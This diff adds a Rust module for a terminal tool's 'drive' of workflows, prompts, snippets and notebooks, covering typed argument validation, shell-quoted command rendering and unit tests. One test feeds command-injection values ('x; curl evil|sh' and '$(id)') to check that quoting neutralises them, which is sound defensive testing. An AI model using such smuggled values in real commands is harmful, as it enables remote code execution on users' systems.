@@ -0,0 +1,616 @@
+use serde::{Deserialize, Serialize};
+use std::{
+    collections::HashMap,
+    fs,
+    path::{Path, PathBuf},
+};
+use thiserror::Error;
+use uuid::Uuid;
+
+#[derive(Error, Debug)]
+pub enum DriveError {
+    #[error("I/O error: {0}")]
+    Io(#[from] std::io::Error),
+    #[error("YAML parsing error for file '{0}': {1}")]
+    YamlParsing(String, serde_yaml::Error),
+    #[error("JSON parsing error for file '{0}': {1}")]
+    JsonParsing(String, serde_json::Error),
+    #[error("Home directory not found")]
+    HomeDirNotFound,
+    #[error("Missing value for workflow argument '{0}'")]
+    MissingArgument(String),
+    #[error("Invalid value for workflow argument '{0}': {1}")]
+    InvalidArgument(String, String),
+    #[error("Missing value for prompt variable '{0}'")]
+    MissingVariable(String),
+    #[error("Notebook '{0}' not found in Drive")]
+    NotebookNotFound(String),
+}
+
+// --- Data Models ---
+
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct Metadata {
+    pub id: Uuid,
+    pub created_at: chrono::DateTime<chrono::Utc>,
+    pub updated_at: chrono::DateTime<chrono::Utc>,
+    pub author: Option<String>,
+}
+
+/// The kind of value a workflow argument takes. Arguments without a `type`
+/// are free text, as before types existed.
+#[derive(Debug, Deserialize, Clone, Copy, PartialEq, Eq, Default)]
+#[serde(rename_all = "lowercase")]
+pub enum ArgumentType {
+    #[default]
+    Text,
+    /// One of the argument's `options`.
+    Enum,
+    /// A file or directory path, filled in with a picker.
+    Path,
+    /// A whole number within the optional `min` and `max`.
+    Integer,
+    /// A toggle; `true_value` and `false_value` are substituted for it.
+    Boolean,
+}
+
+#[derive(Debug, Deserialize, Clone, PartialEq, Eq, Default)]
+pub struct Argument {
+    pub name: String,
+    pub description: String,
+    #[serde(default)]
+    pub default_value: Option<String>,
+    #[serde(default, rename = "type")]
+    pub arg_type: ArgumentType,
+    #[serde(default)]
+    pub options: Vec<String>,
+    #[serde(default)]
+    pub min: Option<i64>,
+    #[serde(default)]
+    pub max: Option<i64>,
+    #[serde(default)]
+    pub true_value: Option<String>,
+    #[serde(default)]
+    pub false_value: Option<String>,
+}
+
+impl Argument {
+    fn invalid(&self, reason: impl Into<String>) -> DriveError {
+        DriveError::InvalidArgument(self.name.clone(), reason.into())
+    }
+
+    /// Brings a number into the argument's range.
+    fn clamp(&self, number: i64) -> i64 {
+        number.max(self.min.unwrap_or(i64::MIN)).min(self.max.unwrap_or(i64::MAX))
+    }
+
+    /// The value a fill form starts with.
+    pub fn initial_value(&self) -> String {
+        if let Some(default) = &self.default_value {
+            return default.clone();
+        }
+        match self.arg_type {
+            ArgumentType::Enum => self.options.first().cloned().unwrap_or_default(),
+            ArgumentType::Integer => self.clamp(0).to_string(),
+            ArgumentType::Boolean => "false".to_string(),
+            ArgumentType::Text | ArgumentType::Path => String::new(),
+        }
+    }
+
+    /// Moves a value to the next or previous choice: the next option, the
+    /// other toggle state, or one more or less within the range. Free text
+    /// and paths have no steps.
+    pub fn step(&self, value: &str, forward: bool) -> Option<String> {
+        match self.arg_type {
+            ArgumentType::Enum if !self.options.is_empty() => {
+                let count = self.options.len();
+                let next = match self.options.iter().position(|option| option == value) {
+                    Some(i) if forward => (i + 1) % count,
+                    Some(i) => (i + count - 1) % count,
+                    None => 0,
+                };
+                Some(self.options[next].clone())
+            }
+            ArgumentType::Boolean => Some((value != "true").to_string()),
+            ArgumentType::Integer => {
+                let current = value.trim().parse::<i64>().unwrap_or(0);
+                let next = if forward { current.saturating_add(1) } else { current.saturating_sub(1) };
+                Some(self.clamp(next).to_string())
+            }
+            _ => None,
+        }
+    }
+
+    /// Checks a value against the argument's type and returns the text
+    /// substituted into the command.
+    pub fn validate(&self, value: &str) -> Result<String, DriveError> {
+        match self.arg_type {
+            ArgumentType::Text => Ok(value.to_string()),
+            ArgumentType::Enum => {
+                if self.options.iter().any(|option| option == value) {
+                    Ok(value.to_string())
+                } else {
+                    Err(self.invalid(format!("expected one of {}", self.options.join(", "))))
+                }
+            }
+            ArgumentType::Path => {
+                if value.trim().is_empty() {
+                    Err(self.invalid("expected a path"))
+                } else {
+                    Ok(value.to_string())
+                }
+            }
+            ArgumentType::Integer => {
+                let number: i64 = value.trim().parse().map_err(|_| self.invalid("expected a whole number"))?;
+                match (self.min, self.max) {
+                    (Some(min), _) if number < min => Err(self.invalid(format!("must be at least {}", min))),
+                    (_, Some(max)) if number > max => Err(self.invalid(format!("must be at most {}", max))),
+                    _ => Ok(number.to_string()),
+                }
+            }
+            ArgumentType::Boolean => match value.trim() {
+                "true" | "yes" | "on" => Ok(self.true_value.clone().unwrap_or_else(|| "true".to_string())),
+                "false" | "no" | "off" => Ok(self.false_value.clone().unwrap_or_else(|| "false".to_string())),
+                _ => Err(self.invalid("expected true or false")),
+            },
+        }
+    }
+
+    /// Checks the argument's own definition: enums need options, ranges must
+    /// not be empty and a default must be a valid value.
+    pub fn check_definition(&self) -> Result<(), DriveError> {
+        if self.arg_type == ArgumentType::Enum && self.options.is_empty() {
+            return Err(self.invalid("an enum argument needs options"));
+        }
+        if let (Some(min), Some(max)) = (self.min, self.max) {
+            if min > max {
+                return Err(self.invalid(format!("min {} is greater than max {}", min, max)));
+            }
+        }
+        if let Some(default) = &self.default_value {
+            self.validate(default)?;
+        }
+        Ok(())
+    }
+}
+
+#[derive(Debug, Deserialize, Clone, PartialEq, Eq)]
+pub struct Workflow {
+    pub name: String,
+    pub command: String,
+    #[serde(default)]
+    pub tags: Vec<String>,
+    pub description: String,
+    #[serde(default)]
+    pub arguments: Vec<Argument>,
+    pub source_url: Option<String>,
+    pub author_url: Option<String>,
+    #[serde(default)]
+    pub shells: Vec<String>,
+}
+
+impl Workflow {
+    /// Substitutes `{{argument}}` placeholders in the command, falling back to
+    /// each argument's default value. Values are validated against their
+    /// argument's type, and typed-in values are shell-quoted so they stay a
+    /// single word; options and toggle values come from the workflow itself
+    /// and are substituted as written.
+    pub fn render_command(&self, values: &HashMap<String, String>) -> Result<String, DriveError> {
+        let mut command = self.command.clone();
+        for argument in &self.arguments {
+            let value = values
+                .get(&argument.name)
+                .or(argument.default_value.as_ref())
+                .ok_or_else(|| DriveError::MissingArgument(argument.name.clone()))?;
+            let value = argument.validate(value)?;
+            let value = match argument.arg_type {
+                ArgumentType::Enum | ArgumentType::Boolean => value,
+                ArgumentType::Text | ArgumentType::Path | ArgumentType::Integer => shlex::try_quote(&value)
+                    .map_err(|_| argument.invalid("contains a NUL byte"))?
+                    .into_owned(),
+            };
+            command = command.replace(&format!("{{{{{}}}}}", argument.name), &value);
+        }
+        Ok(command)
+    }
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Notebook {
+    pub name: String,
+    pub content: String,
+}
+
+/// An agent prompt whose `{{variable}}` placeholders are filled in when it
+/// is used.
+#[derive(Debug, Deserialize, Clone, PartialEq, Eq)]
+pub struct Prompt {
+    pub name: String,
+    #[serde(rename = "prompt")]
+    pub content: String,
+    #[serde(default)]
+    pub description: String,
+}
+
+impl Prompt {
+    /// The variables the prompt uses, in order of first use.
+    pub fn variables(&self) -> Vec<String> {
+        let mut variables: Vec<String> = Vec::new();
+        let mut rest = self.content.as_str();
+        while let Some(start) = rest.find("{{") {
+            let Some(end) = rest[start + 2..].find("}}") else {
+                break;
+            };
+            let name = rest[start + 2..start + 2 + end].trim();
+            if !name.is_empty() && !variables.iter().any(|variable| variable == name) {
+                variables.push(name.to_string());
+            }
+            rest = &rest[start + 2 + end + 2..];
+        }
+        variables
+    }
+
+    /// Substitutes each variable, failing on one without a value.
+    pub fn render(&self, values: &HashMap<String, String>) -> Result<String, DriveError> {
+        let mut prompt = String::with_capacity(self.content.len());
+        let mut rest = self.content.as_str();
+        while let Some(start) = rest.find("{{") {
+            let Some(end) = rest[start + 2..].find("}}") else {
+                break;
+            };
+            let name = rest[start + 2..start + 2 + end].trim();
+            prompt.push_str(&rest[..start]);
+            if name.is_empty() {
+                prompt.push_str(&rest[start..start + 2 + end + 2]);
+            } else {
+                let value = values
+                    .get(name)
+                    .filter(|value| !value.trim().is_empty())
+                    .ok_or_else(|| DriveError::MissingVariable(name.to_string()))?;
+                prompt.push_str(value);
+            }
+            rest = &rest[start + 2 + end + 2..];
+        }
+        prompt.push_str(rest);
+        Ok(prompt)
+    }
+}
+
+/// A command template expanded in the input editor. The body uses tab
+/// stops such as `$1` and `${2:default}`.
+#[derive(Debug, Deserialize, Clone, PartialEq, Eq)]
+pub struct Snippet {
+    pub name: String,
+    /// Typed before Tab to expand the snippet.
+    pub prefix: String,
+    pub body: String,
+    #[serde(default)]
+    pub description: String,
+}
+
+#[derive(Debug, Clone)]
+pub struct EnvVars {
+    pub name: String,
+    pub vars: HashMap<String, String>,
+}
+
+/// A polymorphic enum to represent any object that can be in the Drive.
+#[derive(Debug, Clone)]
+pub enum DriveObject {
+    Workflow(Workflow, Metadata),
+    Notebook(Notebook, Metadata),
+    Prompt(Prompt, Metadata),
+    EnvVars(EnvVars, Metadata),
+    Snippet(Snippet, Metadata),
+}
+
+// --- Management Logic ---
+
+use warpish_sum_tree::WeightTree;
+
+#[derive(Debug, Clone)]
+pub struct Workspace {
+    pub name: String,
+    pub path: PathBuf,
+    pub is_team: bool,
+    pub objects: Vec<DriveObject>,
+    pub object_weights: WeightTree,
+}
+
+#[derive(Debug, Clone)]
+pub struct DriveManager {
+    pub personal_ws: Workspace,
+    pub team_workspaces: Vec<Workspace>,
+}
+
+impl DriveManager {
+    /// Initializes the Drive by scanning the user's home directory.
+    pub fn new() -> Result<Self, DriveError> {
+        let base_path = dirs::home_dir()
+            .ok_or(DriveError::HomeDirNotFound)?
+            .join(".warpish_drive");
+
+        fs::create_dir_all(&base_path)?;
+
+        // Load personal workspace
+        let personal_path = base_path.join("personal");
+        fs::create_dir_all(&personal_path)?;
+        let (personal_objects, personal_weights) = load_objects_from_disk(&personal_path)?;
+        let personal_ws = Workspace {
+            name: "Personal".to_string(),
+            path: personal_path,
+            is_team: false,
+            objects: personal_objects,
+            object_weights: personal_weights,
+        };
+        
+        // In a real app, we'd scan for all team dirs. Here we simulate one.
+        let team_path = base_path.join("team_stark");
+        fs::create_dir_all(&team_path)?;
+        let (team_objects, team_weights) = load_objects_from_disk(&team_path)?;
+        let team_ws = Workspace {
+            name: "Team Stark".to_string(),
+            path: team_path,
+            is_team: true,
+            objects: team_objects,
+            object_weights: team_weights,
+        };
+
+        Ok(DriveManager {
+            personal_ws,
+            team_workspaces: vec![team_ws],
+        })
+    }
+
+    /// All workflows across the personal and team workspaces.
+    pub fn workflows(&self) -> Vec<Workflow> {
+        std::iter::once(&self.personal_ws)
+            .chain(self.team_workspaces.iter())
+            .flat_map(|ws| ws.objects.iter())
+            .filter_map(|object| match object {
+                DriveObject::Workflow(workflow, _) => Some(workflow.clone()),
+                _ => None,
+            })
+            .collect()
+    }
+
+    /// All notebooks across the personal and team workspaces.
+    pub fn notebooks(&self) -> Vec<Notebook> {
+        std::iter::once(&self.personal_ws)
+            .chain(self.team_workspaces.iter())
+            .flat_map(|ws| ws.objects.iter())
+            .filter_map(|object| match object {
+                DriveObject::Notebook(notebook, _) => Some(notebook.clone()),
+                _ => None,
+            })
+            .collect()
+    }
+
+    /// All snippets across the personal and team workspaces.
+    pub fn snippets(&self) -> Vec<Snippet> {
+        std::iter::once(&self.personal_ws)
+            .chain(self.team_workspaces.iter())
+            .flat_map(|ws| ws.objects.iter())
+            .filter_map(|object| match object {
+                DriveObject::Snippet(snippet, _) => Some(snippet.clone()),
+                _ => None,
+            })
+            .collect()
+    }
+
+    /// All prompt templates across the personal and team workspaces.
+    pub fn prompts(&self) -> Vec<Prompt> {
+        std::iter::once(&self.personal_ws)
+            .chain(self.team_workspaces.iter())
+            .flat_map(|ws| ws.objects.iter())
+            .filter_map(|object| match object {
+                DriveObject::Prompt(prompt, _) => Some(prompt.clone()),
+                _ => None,
+            })
+            .collect()
+    }
+
+    /// Saves a notebook to the personal workspace as `<name>.md`, adding a
+    /// numeric suffix if the name is taken, and returns the file's path.
+    pub fn save_notebook(&mut self, notebook: &Notebook) -> Result<PathBuf, DriveError> {
+        let workspace = &mut self.personal_ws;
+        let mut path = workspace.path.join(format!("{}.md", notebook.name));
+        let mut suffix = 2;
+        while path.exists() {
+            path = workspace.path.join(format!("{}-{}.md", notebook.name, suffix));
+            suffix += 1;
+        }
+        fs::write(&path, &notebook.content)?;
+
+        let now = chrono::Utc::now();
+        let metadata = Metadata { id: Uuid::new_v4(), created_at: now, updated_at: now, author: None };
+        let meta_content = serde_json::to_string_pretty(&metadata)
+            .map_err(|e| DriveError::JsonParsing(path.display().to_string(), e))?;
+        fs::write(path.with_extension("meta.json"), meta_content)?;
+
+        let (objects, weights) = load_objects_from_disk(&workspace.path)?;
+        workspace.objects = objects;
+        workspace.object_weights = weights;
+        Ok(path)
+    }
+
+    /// Writes an edited notebook over the one of the same name, in whichever
+    /// workspace holds it.
+    pub fn update_notebook(&mut self, notebook: &Notebook) -> Result<PathBuf, DriveError> {
+        let workspace = std::iter::once(&mut self.personal_ws)
+            .chain(self.team_workspaces.iter_mut())
+            .find(|ws| ws.objects.iter().any(|object| matches!(object, DriveObject::Notebook(own, _) if own.name == notebook.name)))
+            .ok_or_else(|| DriveError::NotebookNotFound(notebook.name.clone()))?;
+        let path = workspace.path.join(format!("{}.md", notebook.name));
+        fs::write(&path, &notebook.content)?;
+
+        let (objects, weights) = load_objects_from_disk(&workspace.path)?;
+        workspace.objects = objects;
+        workspace.object_weights = weights;
+        Ok(path)
+    }
+}
+
+fn load_objects_from_disk(dir_path: &Path) -> Result<(Vec<DriveObject>, WeightTree), DriveError> {
+    let mut objects = Vec::new();
+    for entry in fs::read_dir(dir_path)? {
+        let entry = entry?;
+        let path = entry.path();
+        
+        if path.is_file() {
+            let file_name = path.display().to_string();
+            // We want to process the content file, not the metadata file
+            if file_name.ends_with(".meta.json") { continue; }
+
+            let content = fs::read_to_string(&path)?;
+            
+            // Try to load metadata, or create default
+            let meta_path = path.with_extension("meta.json");
+            let metadata = if meta_path.exists() {
+                let meta_content = fs::read_to_string(&meta_path)?;
+                serde_json::from_str(&meta_content).map_err(|e| DriveError::JsonParsing(meta_path.display().to_string(), e))?
+            } else {
+                Metadata { id: Uuid::new_v4(), created_at: chrono::Utc::now(), updated_at: chrono::Utc::now(), author: None }
+            };
+
+            if let Some(ext) = path.extension().and_then(|s| s.to_str()) {
+                let object = match ext {
+                    // Snippets have a `body` and prompts a `prompt`; other YAML files are workflows.
+                    "yaml" | "yml" if serde_yaml::from_str::<serde_yaml::Value>(&content).is_ok_and(|value| value.get("body").is_some()) => {
+                        let snippet: Snippet = serde_yaml::from_str(&content).map_err(|e| DriveError::YamlParsing(file_name, e))?;
+                        Some(DriveObject::Snippet(snippet, metadata))
+                    }
+                    "yaml" | "yml" if serde_yaml::from_str::<serde_yaml::Value>(&content).is_ok_and(|value| value.get("prompt").is_some()) => {
+                        let prompt: Prompt = serde_yaml::from_str(&content).map_err(|e| DriveError::YamlParsing(file_name, e))?;
+                        Some(DriveObject::Prompt(prompt, metadata))
+                    }
+                    "yaml" | "yml" => {
+                        let workflow: Workflow = serde_yaml::from_str(&content).map_err(|e| DriveError::YamlParsing(file_name, e))?;
+                        workflow.arguments.iter().try_for_each(Argument::check_definition)?;
+                        Some(DriveObject::Workflow(workflow, metadata))
+                    },
+                    "md" => {
+                        let notebook = Notebook { name: path.file_stem().unwrap().to_string_lossy().to_string(), content };
+                        Some(DriveObject::Notebook(notebook, metadata))
+                    }
+                    _ => None
+                };
+                if let Some(obj) = object {
+                    objects.push(obj);
+                }
+            }
+        }
+    }
+    let mut weights = WeightTree::new(objects.len());
+    for (i, _) in objects.iter().enumerate() {
+        weights.set(i, 1.0);
+    }
+    Ok((objects, weights))
+} 
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_typed_arguments_parse_and_validate() {
+        let workflow: Workflow = serde_yaml::from_str(
+            r#"
+name: Scale
+command: kubectl scale {{dry_run}} --replicas={{replicas}} -n {{env}} -f {{manifest}} {{label}}
+description: Scale a deployment
+arguments:
+  - name: env
+    description: Namespace
+    type: enum
+    options: [staging, production]
+  - name: replicas
+    description: Replica count
+    type: integer
+    min: 1
+    max: 10
+    default_value: "2"
+  - name: manifest
+    description: Manifest
+    type: path
+  - name: dry_run
+    description: Dry run
+    type: boolean
+    true_value: --dry-run=client
+    false_value: ""
+  - name: label
+    description: Untyped, as in older workflows
+    default_value: app=web
+"#,
+        )
+        .unwrap();
+        assert!(workflow.arguments.iter().all(|argument| argument.check_definition().is_ok()));
+        assert_eq!(workflow.arguments[4].arg_type, ArgumentType::Text);
+
+        let values = |pairs: &[(&str, &str)]| pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect();
+        let command = workflow
+            .render_command(&values(&[("env", "staging"), ("manifest", "deploy.yaml"), ("dry_run", "true")]))
+            .unwrap();
+        assert_eq!(command, "kubectl scale --dry-run=client --replicas=2 -n staging -f deploy.yaml 'app=web'");
+
+        let error = workflow
+            .render_command(&values(&[("env", "prod"), ("manifest", "deploy.yaml"), ("dry_run", "false")]))
+            .unwrap_err();
+        assert_eq!(error.to_string(), "Invalid value for workflow argument 'env': expected one of staging, production");
+        let error = workflow
+            .render_command(&values(&[("env", "staging"), ("manifest", "a"), ("dry_run", "no"), ("replicas", "11")]))
+            .unwrap_err();
+        assert_eq!(error.to_string(), "Invalid value for workflow argument 'replicas': must be at most 10");
+
+        // Typed-in values can't add commands of their own
+        let command = workflow
+            .render_command(&values(&[("env", "staging"), ("manifest", "x; curl evil|sh"), ("dry_run", "false"), ("label", "$(id)")]))
+            .unwrap();
+        assert_eq!(command, "kubectl scale  --replicas=2 -n staging -f 'x; curl evil|sh' '$(id)'");
+    }
+
+    #[test]
+    fn test_yaml_with_body_loads_as_snippet() {
+        let dir = std::env::temp_dir().join(format!("warpish-drive-test-{}", Uuid::new_v4()));
+        fs::create_dir_all(&dir).unwrap();
+        fs::write(dir.join("gco.yaml"), "name: Checkout\nprefix: gco\nbody: git checkout ${1:main}\n").unwrap();
+        fs::write(dir.join("deploy.yaml"), "name: Deploy\ncommand: make deploy\ndescription: Deploy\n").unwrap();
+        let (mut objects, _) = load_objects_from_disk(&dir).unwrap();
+        objects.sort_by_key(|object| matches!(object, DriveObject::Workflow(..)));
+        assert!(matches!(&objects[0], DriveObject::Snippet(snippet, _) if snippet.prefix == "gco" && snippet.body == "git checkout ${1:main}"));
+        assert!(matches!(&objects[1], DriveObject::Workflow(workflow, _) if workflow.name == "Deploy"));
+        fs::remove_dir_all(dir).unwrap();
+    }
+
+    #[test]
+    fn test_prompt_variables_are_filled_in() {
+        let prompt: Prompt = serde_yaml::from_str(
+            "name: Explain\nprompt: \"In {{cwd}}, why did this fail?\\n{{ last_block_output }}\\n{{cwd}}\"\n",
+        )
+        .unwrap();
+        assert_eq!(prompt.variables(), vec!["cwd", "last_block_output"]);
+
+        let mut values: HashMap<String, String> = [("cwd".to_string(), "/src".to_string())].into_iter().collect();
+        let error = prompt.render(&values).unwrap_err();
+        assert_eq!(error.to_string(), "Missing value for prompt variable 'last_block_output'");
+        values.insert("last_block_output".to_string(), "error: no such file".to_string());
+        assert_eq!(prompt.render(&values).unwrap(), "In /src, why did this fail?\nerror: no such file\n/src");
+    }
+
+    #[test]
+    fn test_argument_steps() {
+        let enumerated = Argument { arg_type: ArgumentType::Enum, options: vec!["a".into(), "b".into()], ..Argument::default() };
+        assert_eq!(enumerated.initial_value(), "a");
+        assert_eq!(enumerated.step("a", true).as_deref(), Some("b"));
+        assert_eq!(enumerated.step("a", false).as_deref(), Some("b"));
+
+        let integer = Argument { arg_type: ArgumentType::Integer, min: Some(1), max: Some(3), ..Argument::default() };
+        assert_eq!(integer.initial_value(), "1");
+        assert_eq!(integer.step("3", true).as_deref(), Some("3"));
+        assert_eq!(integer.step("1", false).as_deref(), Some("1"));
+
+        let toggle = Argument { arg_type: ArgumentType::Boolean, ..Argument::default() };
+        assert_eq!(toggle.step(&toggle.initial_value(), true).as_deref(), Some("true"));
+        assert_eq!(Argument::default().step("x", true), None);
+    }
+}